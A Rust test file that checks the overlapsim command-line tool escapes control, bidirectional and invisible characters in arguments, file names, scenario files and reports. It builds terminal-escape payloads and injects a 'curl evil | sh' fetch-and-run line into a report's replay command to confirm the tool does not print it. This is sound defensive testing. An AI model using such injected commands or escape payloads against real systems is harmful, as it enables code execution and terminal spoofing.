//! No control, format, bidirectional or invisible character of an argument, a file or a file name is printed or written as
//! it is, by any command, with or without colour; and none of their line feeds forges a line.

use std::fs;
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use flate2::read::MultiGzDecoder;
use overlapsim::escape::is_printable;
use serde_json::Value;

use crate::common::folder::Folder;

/// Characters that must not reach a terminal, by number.
const WRONG: [u32; 25] = [
    0x1b, 0x07, 0x0d, 0x08, 0x7f, 0x85, 0x9b, 0xa0, 0xad, 0x115f, 0x180e, 0x200b, 0x200f, 0x2028, 0x2029, 0x202e,
    0x2066, 0x3164, 0xe000, 0xfdd0, 0xfdd4, 0xfe0f, 0xfeff, 0xffff, 0xe0001,
];
/// A line that no command prints.
const FORGED: &str = "forged-line";

/// A text with all of them, escapes for terminals, and a line of its own. A valid file name.
fn hostile() -> String {
    let wrong: String = WRONG.into_iter().filter_map(char::from_u32).collect();
    format!("h{wrong}\x1b[2J\x1b[31mred\x1b]0;title\x07\t\n{FORGED}\n\u{202e}e")
}

impl Folder {
    /// Writes a file and returns its name.
    fn named(&self, name: &str, text: &str) -> String {
        self.write(name, text);
        name.to_owned()
    }

    /// Runs a command line with and without colours. Returns the output without.
    #[track_caller]
    fn run_shown(&self, args: &[&str]) -> Output {
        let outputs = ["always", "never"].map(|color| {
            let args: Vec<&str> = ["--color", color].into_iter().chain(args.iter().copied()).collect();
            let output = self.command(&args).output().unwrap();
            assert!(output.status.code().is_some_and(|code| code <= 3), "{args:?}: {output:?}");
            assert_shown(&output.stdout, color, &args);
            assert_shown(&output.stderr, color, &args);
            output
        });
        assert_eq!(outputs[0].status, outputs[1].status, "{args:?}");
        outputs[1].clone()
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_overlapsim"));
        command.args(args).current_dir(&self.0).stdin(Stdio::null());
        command
    }

    /// The text of every file below that a command has written is checked too, except for the page's own scripts.
    fn assert_written(&self, names: &[&str]) {
        for name in names {
            let text = fs::read(self.0.join(name)).unwrap_or_else(|error| panic!("{name:?}: {error}"));
            assert_shown(&text, "never", &[name]);
        }
    }
}

/// A text without the escapes of this program: numbers of styles that it uses.
fn without_styles(text: &str) -> String {
    let mut parts = text.split("\x1b[");
    let mut out = parts.next().unwrap().to_owned();
    for part in parts {
        let (number, rest) = part.split_once('m').unwrap_or(("", part));
        let is_style = ["0", "1", "2", "4", "31", "32", "33", "34", "35", "36"].contains(&number);
        out.push_str(if is_style { rest } else { "\x1b[" });
    }
    out
}

#[track_caller]
fn assert_shown(bytes: &[u8], color: &str, args: &[&str]) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|error| panic!("{args:?}: {error}"));
    let text = if color == "always" { without_styles(text) } else { text.to_owned() };
    let wrong = text.chars().find(|&c| c != '\n' && (!is_printable(c) || WRONG.contains(&u32::from(c))));
    assert_eq!(wrong, None, "{args:?}: {text:?}");
    assert!(!text.lines().any(|line| line.trim_start().starts_with(FORGED)), "{args:?}: {text}");
}

fn scenario() -> String {
    fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/scenarios/double-fire.ron")).unwrap()
}

/// The lines of the first recording that is kept for tests.
fn recording() -> Vec<Value> {
    let packed = fs::File::open(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/recordings/whole/cases.jsonl.gz")).unwrap();
    let text = std::io::read_to_string(MultiGzDecoder::new(packed)).unwrap();
    let lines = text.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    let mut headings = 0;
    let is_first = |line: &Value| {
        headings += usize::from(line.get("scenario").is_some());
        headings < 2
    };
    lines.take_while(is_first).collect()
}

/// Every value in which one string, one number or one key is the hostile text.
fn spoiled(value: &Value) -> Vec<Value> {
    let with = |all: Vec<Value>, put: &dyn Fn(Value) -> Value| all.into_iter().map(put).collect::<Vec<_>>();
    match value {
        Value::String(_) | Value::Number(_) => vec![hostile().into()],
        Value::Null | Value::Bool(_) => vec![],
        Value::Array(list) => {
            let first = list.first().into_iter();
            first.flat_map(|item| with(spoiled(item), &|item| [&[item], &list[1..]].concat().into())).collect()
        }
        Value::Object(map) => {
            let mut all = Vec::new();
            for (key, item) in map {
                let put = |key: &str, new: Value| {
                    let mut map = map.clone();
                    map.remove(key);
                    map.insert(key.to_owned(), new);
                    Value::Object(map)
                };
                all.extend(with(spoiled(item), &|new| put(key, new)));
                let mut renamed = map.clone();
                renamed.remove(key);
                renamed.insert(hostile(), item.clone());
                all.push(Value::Object(renamed));
            }
            all
        }
    }
}

#[test]
fn arguments_are_shown_escaped() {
    let folder = Folder::new("hostile-arguments");
    let (h, one) = (&*hostile(), &*folder.named("one.ron", &scenario()));
    let option = &*format!("--{h}");
    let joined = |name: &str| format!("{name}={h}");
    let lines: Vec<Vec<&str>> = vec![
        vec![h],
        vec![option],
        vec!["run", h],
        vec!["run", one, h],
        vec!["run", one, option],
        vec!["run", one, "--rule", h],
        vec!["run", one, "--seed", h],
        vec!["run", one, "--format", h],
        vec!["run", one, "--timeline", "--turns", h],
        vec!["run", one, "--choices", h],
        vec!["run", one, "--choices", "0", "--vary", h],
        vec!["run", one, "--fail-on", h],
        vec!["diff", h],
        vec!["kl", h],
        vec!["graph", one, "--around", h],
        vec!["graph", one, "--rule", h],
        vec!["jitter", one, "--request", h],
        vec!["jitter", one, "--pattern", h],
        vec!["jitter", one, "--pattern", "01", "-o", "\u{202e}\n.ron"],
        vec!["trace", one, "-o", "no/such\u{202e}/x"],
        vec!["report", one, "-o", "\u{202e}/x"],
        vec!["cost", one, "--cpu", h],
        vec!["cost", one, "--gpu", h],
        vec!["cost", one, "--batch", h],
        vec!["conform", h],
        vec!["conform", one, "--rule", h],
        vec!["conform", one, "--release", h],
        vec!["import", h, "-o", "x.ron"],
        vec!["scenario", h],
        vec!["check", one, "--max-time", h],
        vec!["check", one, "--rule", h],
        vec!["fuzz", "--generate", h, "--seeds", "0..1"],
        vec!["fuzz", one, "--seeds", h],
        vec!["fuzz", one, "--seeds", "0..1", "--shard", h],
        vec!["fuzz", one, "--seeds", "0..1", "--shard", "JOB_COMPLETION_INDEX/4"],
        vec!["merge", h],
        vec!["test", h],
        vec!["explore", one, "--script", h],
        vec!["explore", one, "--script", "q", "--size", h],
        vec!["explore", h, "--script", "q"],
        vec!["completions", h],
        vec!["--color", h],
    ];
    for args in lines {
        let mut outputs = vec![folder.run_shown(&args)];
        // The name of the program is an argument too.
        let mut command = folder.command(&args);
        outputs.push(command.arg0(h).env("JOB_COMPLETION_INDEX", h).env("COLUMNS", "40").output().unwrap());
        for output in outputs {
            assert_shown(&output.stderr, "never", &args);
            assert_shown(&output.stdout, "never", &args);
            let code = output.status.code();
            assert!(code == Some(2) || args.contains(&"-o") || args[0] == "explore", "{args:?}: {output:?}");
        }
    }
    for name in ["--seed", "--format", "--rule"] {
        folder.run_shown(&["run", one, &joined(name)]);
    }
}

#[test]
fn names_of_files_are_shown_escaped() {
    let folder = Folder::new("hostile-names");
    let h = hostile();
    let name = |end: &str| format!("{h}{end}");
    let (file, json, page, made) = (name(".ron"), name(".json"), name(".html"), name(".made.ron"));
    let (found, pages, below) = (name("found"), name("man"), name("below"));
    folder.named(&file, &scenario());
    let search = fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/scenarios/check/interleaved.ron")).unwrap();
    let (search, recording_name) = (folder.named(&name("s.ron"), &search), name(".jsonl"));
    let lines: Vec<String> = recording().iter().map(Value::to_string).collect();
    folder.named(&recording_name, &(lines.join("\n") + "\n"));
    fs::create_dir(folder.0.join(&below)).unwrap();
    fs::copy(folder.0.join(&file), folder.0.join(&below).join(&file)).unwrap();
    fs::copy(folder.0.join(&recording_name), folder.0.join(&below).join(&recording_name)).unwrap();
    let one = format!("{recording_name}#0");
    let lines: Vec<Vec<&str>> = vec![
        vec!["run", &file],
        vec!["run", &file, "--rule", "all", "--timeline", "--skew"],
        vec!["run", &file, "--rule", "all", "--format", "json"],
        vec!["diff", &file],
        vec!["kl", &file],
        vec!["kl", &file, "--format", "json"],
        vec!["graph", &file],
        vec!["graph", &file, "--format", "json"],
        vec!["jitter", &file, "--pattern", "010", "-o", &made],
        vec!["jitter", &file, "--format", "json"],
        vec!["trace", &file, "-o", &json],
        vec!["report", &file, "--rule", "all", "-o", &page],
        vec!["report", &file, "-o", &file],
        vec!["cost", &file, "--outputs", "64"],
        vec!["cost", &file, "--outputs", "64", "--format", "json"],
        vec!["scenario", &file],
        vec!["scenario", &file, "--format", "json"],
        vec!["test", &file, &below],
        vec!["check", &search, "--rule", "all", "--out", &found],
        vec!["check", &search, "--rule", "mask-lookahead", "--format", "json"],
        vec!["fuzz", &search, "--seeds", "0..40", "--out", &found],
        vec!["fuzz", &search, "--seeds", "0..40", "--out", &found, "--format", "json"],
        vec!["fuzz", "--generate", "small", "--seeds", "0..9", "--shard", "0/2", "--out", &found],
        vec!["fuzz", "--generate", "wide", "--seeds", "0..9", "--shard", "0/2", "--out", &found],
        vec!["merge", &found],
        vec!["merge", &below],
        vec!["conform", &recording_name, &below],
        vec!["conform", &recording_name, "--rule", "token-len", "--format", "json"],
        vec!["import", &one, "-o", &made],
        vec!["import", &one, "-o", &recording_name],
        vec!["explore", &file, "--script", "lll?q"],
        vec!["explore", &file, "--script", "w", "--out", &found],
        vec!["explore", &file, "--script", "p", "--out", &found],
        vec!["man", &pages],
        vec!["man", &file],
        vec!["run", &below],
        vec!["conform", &file],
    ];
    for args in lines {
        let output = folder.run_shown(&args);
        if args.ends_with(&["--format", "json"]) && args[0] != "merge" {
            let value: Value =
                serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{args:?}: {error}"));
            let of = value.get(0).unwrap_or(&value);
            if let Some(scenario) = of.get("scenario").and_then(Value::as_str) {
                assert_eq!(scenario, args[1], "the name in JSON is the name");
            }
        }
    }
    folder.assert_written(&[&json, &made, &page]);
    let found: Vec<PathBuf> = fs::read_dir(folder.0.join(&found)).unwrap().map(|entry| entry.unwrap().path()).collect();
    assert!(found.len() > 4, "{found:?}");
    for path in found {
        assert_shown(&fs::read(&path).unwrap(), "never", &["written"]);
        let name = path.file_name().unwrap().to_str().unwrap().to_owned();
        assert!(name.chars().all(is_printable), "{name:?}");
    }
}

#[test]
fn scenarios_are_shown_escaped() {
    let folder = Folder::new("hostile-scenarios");
    let h = hostile();
    let in_line = h.replace('\n', " ");
    let quoted = h.replace('\\', "\\\\").replace('"', "\\\"");
    let spelled: String = h.chars().map(|c| c.escape_unicode().to_string()).collect();
    let requests = r#"requests: [(id: "a", prompt: Fresh(1), stop: Token(4))]"#;
    let texts = [
        format!("// {in_line}\n(engine: (track_interval: 4, mamba_chunk: 4), {requests})"),
        format!("/* {h} */ (engine: (track_interval: 4, mamba_chunk: 4), {requests})"),
        format!("({requests}, /* {in_line} */ promt: 1)"),
        format!("({requests}, {in_line}: 1)"),
        format!("({requests}, vary: ({in_line}: true))"),
        format!("({requests}, rule: \"{quoted}\")"),
        format!("({requests}, rule: \"{spelled}\")"),
        format!("({requests}, costs: (cpu: \"{quoted}\"))"),
        format!("({requests}, engine: (strategy: {in_line}))"),
        format!("({requests}, expect: [(rule: \"{quoted}\", verdict: Clean, findings: [])])"),
        format!("({requests}, expect_every: [(rule: \"paired\", verdict: Clean, kinds: [\"{spelled}\"])])"),
        format!("({requests}, events: [(turn: 7, do: Abort(\"{quoted}\"))])"),
        format!("(requests: [(id: \"{quoted}\", prompt: Fresh(1), stop: Token(4))])"),
        format!("(requests: [(id: \"{spelled}\", prompt: Fresh(1), stop: Token(4))])"),
        format!("(requests: [(id: \"a\", prompt: Extend(\"{quoted}\", 3), stop: Token(4))])"),
        format!("(requests: [(id: \"a\", arrive: After(\"{spelled}\"), prompt: Fresh(1), stop: Token(4))])"),
        format!("(requests: [(id: \"a\", arrive: At(\"{spelled}\"), prompt: Fresh(1), stop: Token(4))])"),
        format!("(trace: (path: \"{spelled}\", format: AzureCsv))"),
        "(trace: (path: \"trace.csv\", format: AzureCsv))".to_owned(),
        "(trace: (path: \"trace.jsonl\", format: MooncakeJsonl))".to_owned(),
        h.clone(),
        format!("\u{feff}{h}"),
        fs::read_to_string("../shared/hostile/esc-comment.ron").unwrap_or_default(),
        fs::read_to_string("../shared/hostile/bad2.ron").unwrap_or_default(),
    ];
    folder.named("trace.csv", &format!("TIMESTAMP,ContextTokens,GeneratedTokens\n{in_line},{in_line},3\n"));
    folder.named("trace.jsonl", &format!("{{\"timestamp\": 0, \"{in_line}\": 3, \"input_length\": \"{in_line}\"}}\n"));
    for (at, text) in texts.iter().enumerate() {
        let name = folder.named(&format!("{at}.ron"), text);
        folder.run_shown(&["run", &name, "--timeline"]);
        let printed = folder.run_shown(&["scenario", &name]);
        if printed.status.success() {
            // What is printed means what the file means.
            folder.named("again.ron", std::str::from_utf8(&printed.stdout).unwrap());
            let json = |name: &str| {
                let text = folder.run_shown(&["scenario", name, "--format", "json"]).stdout;
                let mut value: Value = serde_json::from_slice(&text).unwrap();
                value["name"] = Value::Null;
                value
            };
            assert_eq!(json(&name), json("again.ron"));
            folder.run_shown(&["report", &name, "-o", "page.html"]);
            folder.assert_written(&["page.html"]);
        }
    }
    folder.run_shown(&["test", "."]);
    // An id is refused for each of the characters.
    for c in WRONG.into_iter().filter_map(char::from_u32) {
        let text = format!(r#"(requests: [(id: "a\u{{{:x}}}", prompt: Fresh(1), stop: Token(4))])"#, u32::from(c));
        let output = folder.run_shown(&["run", &folder.named("id.ron", &text)]);
        let error = String::from_utf8(output.stderr).unwrap();
        assert!(error.contains("cannot be printed"), "{c:?}: {error}");
    }
}

#[test]
fn the_mark_is_below_what_was_escaped() {
    let folder = Folder::new("hostile-mark");
    let text = r#"(requests: [(id: "a", prompt: Fresh(1), stop: Token(4)), /* XY */ (id: "b", promt: Fresh(1))])"#;
    let name = folder.named("mark.ron", &text.replace("XY", "\u{202e}\u{200b}\x1b[2J\u{e0001}\u{ad}"));
    let error = String::from_utf8(folder.run_shown(&["run", &name]).stderr).unwrap();
    let lines: Vec<&str> = error.lines().collect();
    let source = lines.iter().position(|line| line.contains("promt: Fresh")).expect("the line of the source");
    assert_eq!(lines[source].find("promt"), lines[source + 1].find('^'), "{error}");
    assert!(lines[source].contains(r"/* \u{202e}\u{200b}\u{1b}[2J\u{e0001}\u{ad} */"), "{error}");
}

#[test]
fn recordings_are_shown_escaped() {
    let folder = Folder::new("hostile-recordings");
    let whole = recording();
    // A line of each kind of event, and each field of it.
    let mut seen = std::collections::BTreeSet::new();
    let mut files = 0;
    for (at, line) in whole.iter().enumerate() {
        if !seen.insert(line.get("ev").map(Value::to_string)) {
            continue;
        }
        for spoiled in spoiled(line) {
            let lines = whole.iter().enumerate();
            let lines: Vec<String> =
                lines.map(|(of, line)| if of == at { spoiled.to_string() } else { line.to_string() }).collect();
            folder.named(&format!("{files}.jsonl"), &(lines.join("\n") + "\n"));
            files += 1;
        }
    }
    assert!(files > 80, "{files}");
    for name in ["esc-conform-event.jsonl", "esc-conform-field.jsonl"] {
        let _ = fs::copy(Path::new("../shared/hostile").join(name), folder.0.join(name));
    }
    folder.run_shown(&["conform", "."]);
    folder.run_shown(&["conform", ".", "--plan", "own", "--rule", "token-len"]);
    let json = folder.run_shown(&["conform", ".", "--format", "json"]).stdout;
    serde_json::from_slice::<Value>(&json).expect("JSON");
    for file in (0..files).step_by(3) {
        let output = folder.run_shown(&["import", &format!("{file}.jsonl"), "-o", "made.ron"]);
        if output.status.code() != Some(2) {
            folder.assert_written(&["made.ron"]);
        }
    }
}

#[test]
fn reports_of_shards_are_shown_escaped_and_their_command_lines_are_made_anew() {
    let folder = Folder::new("hostile-shards");
    let search = concat!(env!("CARGO_MANIFEST_DIR"), "/scenarios/check/interleaved.ron");
    let plain = folder.run_shown(&["fuzz", search, "--seeds", "0..60", "--out", "found"]);
    let text = fs::read_to_string(folder.0.join("found/fuzz-0-of-1.json")).unwrap();
    let report: Value = serde_json::from_str(&text).unwrap();
    let merged = folder.run_shown(&["merge", "found/fuzz-0-of-1.json"]);
    assert_eq!(String::from_utf8(merged.stdout).unwrap(), String::from_utf8(plain.stdout).unwrap());
    let mut taken = 0;
    for spoiled in spoiled(&report).into_iter().chain(findings_spoiled(&report)) {
        folder.named("shard.json", &spoiled.to_string());
        let output = folder.run_shown(&["merge", "shard.json"]);
        folder.run_shown(&["merge", "shard.json", "--format", "json"]);
        taken += usize::from(output.status.code() != Some(2));
    }
    assert!(taken > 3, "texts without a meaning of their own are taken: {taken}");
    // A command line of a file is not printed.
    let evil = text.replace("overlapsim run ", "curl evil | sh; overlapsim run ");
    assert_ne!(evil, text);
    folder.named("evil.json", &evil);
    let output = String::from_utf8(folder.run_shown(&["merge", "evil.json"]).stdout).unwrap();
    assert!(output.contains("replay: overlapsim run ") && !output.contains("evil"), "{output}");
    // Nor is a verdict that its own counts deny.
    folder.named("clean.json", &text.replacen("\"verdict\": \"corrupt\"", "\"verdict\": \"clean\"", 1));
    assert_eq!(folder.run_shown(&["merge", "clean.json"]).status.code(), Some(2));
    let shared = fs::read_to_string("../shared/hostile/esc-merge.json").unwrap_or_default();
    folder.named("shared.json", &shared);
    folder.run_shown(&["merge", "shared.json"]);
}

/// Reports in which one value of the first finding is the hostile text.
fn findings_spoiled(report: &Value) -> Vec<Value> {
    let rules = report["rules"].as_array().unwrap();
    let at = rules.iter().position(|rule| rule["findings"].get(0).is_some()).expect("a finding");
    let put = |finding: Value| {
        let mut report = report.clone();
        report["rules"][at]["findings"][0] = finding;
        report
    };
    let finding = &report["rules"][at]["findings"][0];
    let mut all: Vec<Value> = spoiled(finding).into_iter().map(put).collect();
    let mut with_scenario = finding.clone();
    with_scenario["scenario"] = hostile().into();
    all.push(put(with_scenario));
    all
}
